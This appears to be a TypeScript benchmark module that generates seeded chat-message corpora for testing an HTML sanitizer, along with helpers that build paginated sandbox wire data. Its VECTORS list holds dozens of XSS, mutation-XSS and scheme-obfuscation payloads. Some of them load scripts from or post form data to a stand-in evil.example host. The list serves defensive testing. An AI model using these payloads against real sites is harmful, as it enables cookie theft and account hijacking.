/**
 * Seeded, deterministic inputs for every benchmark: the two sanitizer corpora (generated here with the sandbox's
 * PRNG) and the Drift wire data (pages and threads) the sandbox itself would serve.
 *
 * The same seed and size give byte-identical corpora on every machine: the PRNG (`Seed.Prng`, sfc32) uses 32-bit
 * integer arithmetic only, and nothing here reads the clock.
 */
import { Seed, Store } from "@parley/drift-sandbox"

type Prng = Seed.Prng

// -----------------------------------------------------------------------------
// Words and sentences
// -----------------------------------------------------------------------------

const WORDS = (
  "the a to and of is in it you that for on with this be are we have can not my do your at if me so our but " +
  "hi hello thanks please help account invoice billing plan team seat seats price pricing quote demo call " +
  "password reset login email export api widget page error issue bug update upgrade renewal trial contract " +
  "today tomorrow monday friday week month year time soon later again still just also really very " +
  "customer support sales agent manager admin user users settings dashboard report data file download " +
  "integration salesforce hubspot slack zapier webhook token key limit rate timeout sync import " +
  "question answer problem working works broken fixed change cancel refund charge card payment"
).split(" ")

const NON_ASCII = ["Grüße", "déjà", "naïve", "日本語", "für", "Straße", "señor", "🎉", "👍", "😅", "→", "€50", "£20"]

const sentence = (rng: Prng, words: number): string => {
  const out: Array<string> = []
  for (let i = 0; i < words; i++) {
    out.push(rng.chance(0.03) ? rng.pick(NON_ASCII) : rng.pick(WORDS))
  }
  const s = out.join(" ")
  return s.charAt(0).toUpperCase() + s.slice(1) + rng.pick([".", ".", ".", "?", "!", ""])
}

/** A chat-length word count: most messages are short, a few long (pasted emails, logs). */
const chatWords = (rng: Prng): number =>
  rng.chance(0.05) ? rng.int(80, 300) : 1 + Math.floor(30 * Math.pow(rng.next(), 2))

const paragraphs = (rng: Prng, words: number): string => {
  const parts: Array<string> = []
  let left = words
  while (left > 0) {
    const n = Math.min(left, rng.int(6, 25))
    parts.push(sentence(rng, n))
    left -= n
  }
  return words > 40 ? parts.join(rng.chance(0.5) ? "\n" : "\n\n") : parts.join(" ")
}

const host = (rng: Prng): string =>
  rng.pick(["example.com", "docs.example.com", "billing.example.org", "status.example.net", "help.acme.example"])

const url = (rng: Prng): string =>
  `https://${host(rng)}/${rng.pick(["docs", "invoices", "kb", "status", "pricing", "a"])}/${rng.int(1, 99_999)}` +
  (rng.chance(0.3) ? `?utm_source=chat&ref=${rng.int(1, 999)}` : "")

// -----------------------------------------------------------------------------
// Realistic corpus
// -----------------------------------------------------------------------------

/** The kinds of body in the corpora, in report order. */
export const KINDS = [
  "plain",
  "plain-escape",
  "plain-entity",
  "light-markup",
  "rich-markup",
  "hostile"
] as const
export type Kind = (typeof KINDS)[number]

/** What each kind is, for the report. */
export const KIND_DESCRIPTIONS: Record<Kind, string> = {
  "plain": "plain text, nothing to escape (the sanitizer's no-parse fast path, returned as is)",
  "plain-escape": "plain text with characters to escape but no markup (`\"`, `>`, `<3`, `5 < 10`, `& `, CR)",
  "plain-entity": "plain text with a character reference (`&amp;`, `&lt;`, `&quot;`, `&#39;`, `&nbsp;`): parsed",
  "light-markup": "chat with 1-3 inline tags: `<b>`, `<em>`, `<a href>` (http/https/mailto), `<i>`, `<strong>`, `<br>`",
  "rich-markup": "pasted rich text / email HTML: nested div/p/span/ul/table with style/class, images, links",
  "hostile": "one to three attack vectors (XSS, mXSS, scheme obfuscation, namespace confusion) in chat text"
}

const plainEscape = (rng: Prng): string => {
  const base = sentence(rng, 1 + Math.floor(20 * Math.pow(rng.next(), 2)))
  switch (rng.int(0, 6)) {
    case 0:
      return `"${base}" is what they said`
    case 1:
      return `${base} <3`
    case 2:
      return `Is 5 < 10 users the minimum? ${base}`
    case 3:
      return `${base} -> step 2 > step 1`
    case 4:
      return `Tom & Jerry Ltd. ${base}`
    case 5:
      return `${base}\r\n${sentence(rng, rng.int(2, 10))}`
    default:
      return `She said "${base}" & left :-> ok`
  }
}

const plainEntity = (rng: Prng): string => {
  const base = sentence(rng, 1 + Math.floor(20 * Math.pow(rng.next(), 2)))
  const entity = rng.pick(["&amp;", "&lt;", "&gt;", "&quot;", "&#39;", "&nbsp;", "&euro;", "&#8217;"])
  return rng.chance(0.5) ? `${base} ${entity} ${sentence(rng, rng.int(1, 8))}` : `Tom ${entity} Jerry: ${base}`
}

const inline = (rng: Prng, text: string): string => {
  switch (rng.weighted([30, 25, 25, 6, 6, 4, 4])) {
    case 0:
      return `<b>${text}</b>`
    case 1:
      return `<em>${text}</em>`
    case 2:
      return `<a href="${url(rng)}">${text}</a>`
    case 3:
      return `<a href="mailto:support@${host(rng)}">${text}</a>`
    case 4:
      return `<a href="${url(rng)}" target="_blank" rel="noopener">${text}</a>`
    case 5:
      return `<i>${text}</i>`
    default:
      return `<strong>${text}</strong>`
  }
}

const lightMarkup = (rng: Prng): string => {
  const parts: Array<string> = []
  const tags = rng.int(1, 3)
  for (let i = 0; i < tags; i++) {
    parts.push(sentence(rng, rng.int(1, 10)))
    parts.push(inline(rng, sentence(rng, rng.int(1, 4)).replace(/[.?!]$/, "")))
  }
  parts.push(sentence(rng, rng.int(0, 8)))
  return parts.join(rng.chance(0.15) ? "<br>" : " ").trim()
}

const richMarkup = (rng: Prng): string => {
  const blocks: Array<string> = []
  const count = rng.int(2, 10)
  for (let i = 0; i < count; i++) {
    const text = () => `${sentence(rng, rng.int(3, 20))} ${inline(rng, sentence(rng, rng.int(1, 4)))}`
    switch (rng.int(0, 6)) {
      case 0:
        blocks.push(`<p style="margin:0;font-family:Arial">${text()}</p>`)
        break
      case 1:
        blocks.push(`<div class="gmail_quote"><span style="color:#555">${text()}</span><br></div>`)
        break
      case 2:
        blocks.push(`<ul>${Array.from({ length: rng.int(2, 5) }, () => `<li>${text()}</li>`).join("")}</ul>`)
        break
      case 3:
        blocks.push(
          `<table border="0" cellpadding="4"><tr><td><b>Plan</b></td><td>${text()}</td></tr>` +
            `<tr><td>Total</td><td>&euro;${rng.int(10, 999)}.00</td></tr></table>`
        )
        break
      case 4:
        blocks.push(
          `<p><img src="https://cdn.${host(rng)}/logo.png" alt="logo" width="120"> ${text()}</p>` +
            `<!-- tracking ${rng.int(1, 1e6)} -->`
        )
        break
      case 5:
        blocks.push(`<blockquote><p><i>${text()}</i></p></blockquote>`)
        break
      default:
        blocks.push(
          `<h3>${sentence(rng, rng.int(2, 6))}</h3><p>${text()} &mdash; <a href="/kb/${rng.int(1, 999)}">kb</a></p>`
        )
    }
  }
  return blocks.join("\n")
}

/**
 * Attack vectors: XSS filter evasion cheat-sheet classics, mutation-XSS (mXSS) and namespace confusion payloads,
 * scheme obfuscation, and markup the allow-list must strip (attributes on the wrong element, relative and
 * protocol-relative links). `X` is replaced by filler text.
 */
const VECTORS: ReadonlyArray<string> = [
  "<script>alert('xss')</script>X",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>X",
  "<img src=x onerror=alert(1)>X",
  "<svg onload=alert(1)><circle r=10></svg>X",
  "<svg><script>alert(1)</script></svg>X",
  "<a href=\"javascript:alert(document.cookie)\">X</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">X</a>",
  "<a href=\" jav&#x09;ascript:alert(1)\">X</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">X</a>",
  "<a href=\"javascript&colon;alert(1)\">X</a>",
  "<a href=\"java\u0000script:alert(1)\">X</a>",
  "<a href=\"\u0001javascript:alert(1)\">X</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">X</a>",
  "<a href=\"vbscript:msgbox(1)\">X</a>",
  "<a href=\"//evil.example/steal\">X</a>",
  "<a href=\"/relative/path\">X</a>",
  "<a href=\"https://example.com/ok\" onclick=\"alert(1)\" style=\"position:fixed\">X</a>",
  "<a href=\"https://example.com/\" href=\"javascript:alert(1)\">X</a>",
  "<b onclick=\"alert(1)\" style=\"color:red\">X</b>",
  "<em onmouseover=\"alert(1)\">X</em>",
  "<b href=\"https://evil.example/\">X</b>",
  "<em href=\"javascript:alert(1)\">X</em>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>X",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>X",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">X",
  "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">X",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>X",
  "<template><script>alert(1)</script></template>X",
  "<iframe src=\"https://evil.example/\"></iframe>X",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>X",
  "<object data=\"javascript:alert(1)\"></object>X",
  "<embed src=\"https://evil.example/x.swf\">X",
  "<form action=\"https://evil.example/steal\"><input name=password><button formaction=javascript:alert(1)>X</button></form>",
  "<!--<img src=x onerror=alert(1)>-->X",
  "<![CDATA[<script>alert(1)</script>]]>X",
  "<scr<script>ipt>alert(1)</scr</script>ipt>X",
  "<textarea><script>alert(1)</script></textarea>X",
  "<title><img src=x onerror=alert(1)></title>X",
  "<xmp><img src=x onerror=alert(1)></xmp>X",
  "<select><option><img src=x onerror=alert(1)></option></select>X",
  "<style>@import 'https://evil.example/x.css';</style>X",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">X",
  "<base href=\"javascript:/\"><a href=\"x\">X</a>",
  "<link rel=stylesheet href=\"https://evil.example/x.css\">X",
  "<a href=\"https://example.com/one\">X <a href=\"https://example.com/two\">nested</a></a>",
  "<table><a href=\"https://example.com/t\">X</a><tr><td>cell</td></tr></table>",
  "<b><em><a href=\"https://example.com/\">X",
  "</b></em></a>X",
  "<img src=\"x\" alt=\"\" onerror=\"alert(1)\"/><b>X</b>",
  "<div style=\"background:url(javascript:alert(1))\">X</div>",
  "<a href=\"https://example.com/\"><svg><a xlink:href=\"javascript:alert(1)\"><text>X</text></a></svg></a>",
  "<isindex type=image src=1 onerror=alert(1)>X",
  "<details open ontoggle=alert(1)>X</details>",
  "<video><source onerror=\"alert(1)\"></video>X",
  "<body onload=alert(1)>X",
  "<a href=\"mailto:someone@example.com?subject=<script>\">X</a>"
]

const hostile = (rng: Prng): string => {
  const parts: Array<string> = []
  const vectors = rng.int(1, 3)
  for (let i = 0; i < vectors; i++) {
    if (rng.chance(0.6)) parts.push(sentence(rng, rng.int(1, 12)))
    parts.push(rng.pick(VECTORS).replace("X", sentence(rng, rng.int(1, 6))))
  }
  if (rng.chance(0.3)) parts.push(lightMarkup(rng))
  return parts.join(" ")
}

const DEEP_NESTING = (rng: Prng): string => {
  const depth = rng.int(50, 300)
  const tag = rng.pick(["b", "em", "div", "span", "a href=\"https://example.com/\""])
  const name = tag.split(" ")[0]!
  return `<${tag}>`.repeat(depth) + sentence(rng, 4) + `</${name}>`.repeat(depth)
}

const body = (rng: Prng, kind: Kind): string => {
  switch (kind) {
    case "plain":
      return paragraphs(rng, chatWords(rng))
    case "plain-escape":
      return plainEscape(rng)
    case "plain-entity":
      return plainEntity(rng)
    case "light-markup":
      return lightMarkup(rng)
    case "rich-markup":
      return richMarkup(rng)
    case "hostile":
      return rng.chance(0.03) ? DEEP_NESTING(rng) : hostile(rng)
  }
}

/** A corpus: bodies and the kind of each. */
export interface Corpus {
  readonly name: string
  readonly bodies: ReadonlyArray<string>
  readonly kinds: ReadonlyArray<Kind>
  /** The weights the kinds were drawn with, in {@link KINDS} order. */
  readonly weights: ReadonlyArray<number>
}

const generate = (name: string, seed: number, size: number, weights: ReadonlyArray<number>): Corpus => {
  const rng = new Seed.Prng(seed)
  const bodies: Array<string> = []
  const kinds: Array<Kind> = []
  for (let i = 0; i < size; i++) {
    const kind = KINDS[rng.weighted(weights)]!
    kinds.push(kind)
    bodies.push(body(rng, kind))
  }
  return { name, bodies, kinds, weights }
}

/**
 * Drawn weights (percent) of the realistic corpus: the sandbox's own mix (86% plain, 10% markup, 4% hostile, see
 * `Seed.pickBody`), with the plain share split by what the sanitizer must do with it.
 */
export const REALISTIC_WEIGHTS = [72, 8, 6, 8, 2, 4] as const

/** Drawn weights of the hostile corpus: half attack vectors, half rich markup, a little light markup. */
export const HOSTILE_WEIGHTS = [0, 0, 0, 10, 40, 50] as const

/** The realistic corpus: mostly plain chat text, some markup, the odd hostile body. */
export const realistic = (size: number, seed = 20_250_131): Corpus =>
  generate("realistic", seed, size, REALISTIC_WEIGHTS)

/** The hostile corpus: rich markup and attack vectors. */
export const hostileCorpus = (size: number, seed = 666): Corpus => generate("hostile", seed, size, HOSTILE_WEIGHTS)

/** Counts and bytes per kind, in {@link KINDS} order (kinds absent from the corpus left out). */
export const composition = (corpus: Corpus) => {
  const rows: Array<{ kind: Kind; count: number; share: number; bytes: number }> = []
  const total = corpus.bodies.length
  for (const kind of KINDS) {
    let count = 0
    let bytes = 0
    for (let i = 0; i < total; i++) {
      if (corpus.kinds[i] === kind) {
        count++
        bytes += Buffer.byteLength(corpus.bodies[i]!, "utf8")
      }
    }
    if (count > 0) rows.push({ kind, count, share: count / total, bytes })
  }
  return rows
}

/** The UTF-8 size of all bodies. */
export const byteSize = (bodies: ReadonlyArray<string>): number => {
  let bytes = 0
  for (const b of bodies) bytes += Buffer.byteLength(b, "utf8")
  return bytes
}

// -----------------------------------------------------------------------------
// Drift wire data, as the sandbox serves it
// -----------------------------------------------------------------------------

/** A seeded sandbox workspace (the same data `packages/drift-sandbox` serves for that seed and size). */
export const workspace = (conversations: number, seed = 1): Store.Workspace =>
  new Store.Workspace({ seed, conversations })

/**
 * `count` consecutive `GET /conversations/list?limit=50` pages of a seeded workspace, as wire JSON objects.
 */
export const conversationsPages = (ws: Store.Workspace, count: number): Array<unknown> => {
  const pages: Array<unknown> = []
  let next: string | undefined
  for (let i = 0; i < count; i++) {
    const page = ws.list({ limit: 50, next })
    if (!("data" in page)) throw new Error("the sandbox workspace refused a list request")
    pages.push(page)
    next = page.pagination?.next
    if (next === undefined) break
  }
  return pages
}

/**
 * `count` messages pages of 50 messages each (the sandbox serves 20 per page; 50 here so both page kinds hold
 * the same number of items), taken in order from the seeded conversations' messages.
 */
export const messagesPages = (ws: Store.Workspace, count: number): Array<unknown> => {
  const pages: Array<unknown> = []
  let buffer: Array<unknown> = []
  for (let index = 0; pages.length < count && index < ws.count; index++) {
    buffer = buffer.concat(ws.messagesOf(index))
    while (buffer.length >= 50 && pages.length < count) {
      pages.push({
        data: { messages: buffer.slice(0, 50) },
        pagination: { more: true, next: String((pages.length + 1) * 50) }
      })
      buffer = buffer.slice(50)
    }
  }
  return pages
}

/** The first `count` seeded threads (conversation, all messages, contact) as wire JSON objects. */
export const threads = (ws: Store.Workspace, count: number): Array<unknown> => {
  const out: Array<unknown> = []
  for (let index = 0; index < Math.min(count, ws.count); index++) {
    const conversation = ws.conversation(index)
    const contact = ws.contact(conversation.contactId)
    out.push({
      conversation,
      messages: ws.messagesOf(index),
      ...(contact !== undefined ? { contact } : {})
    })
  }
  return out
}
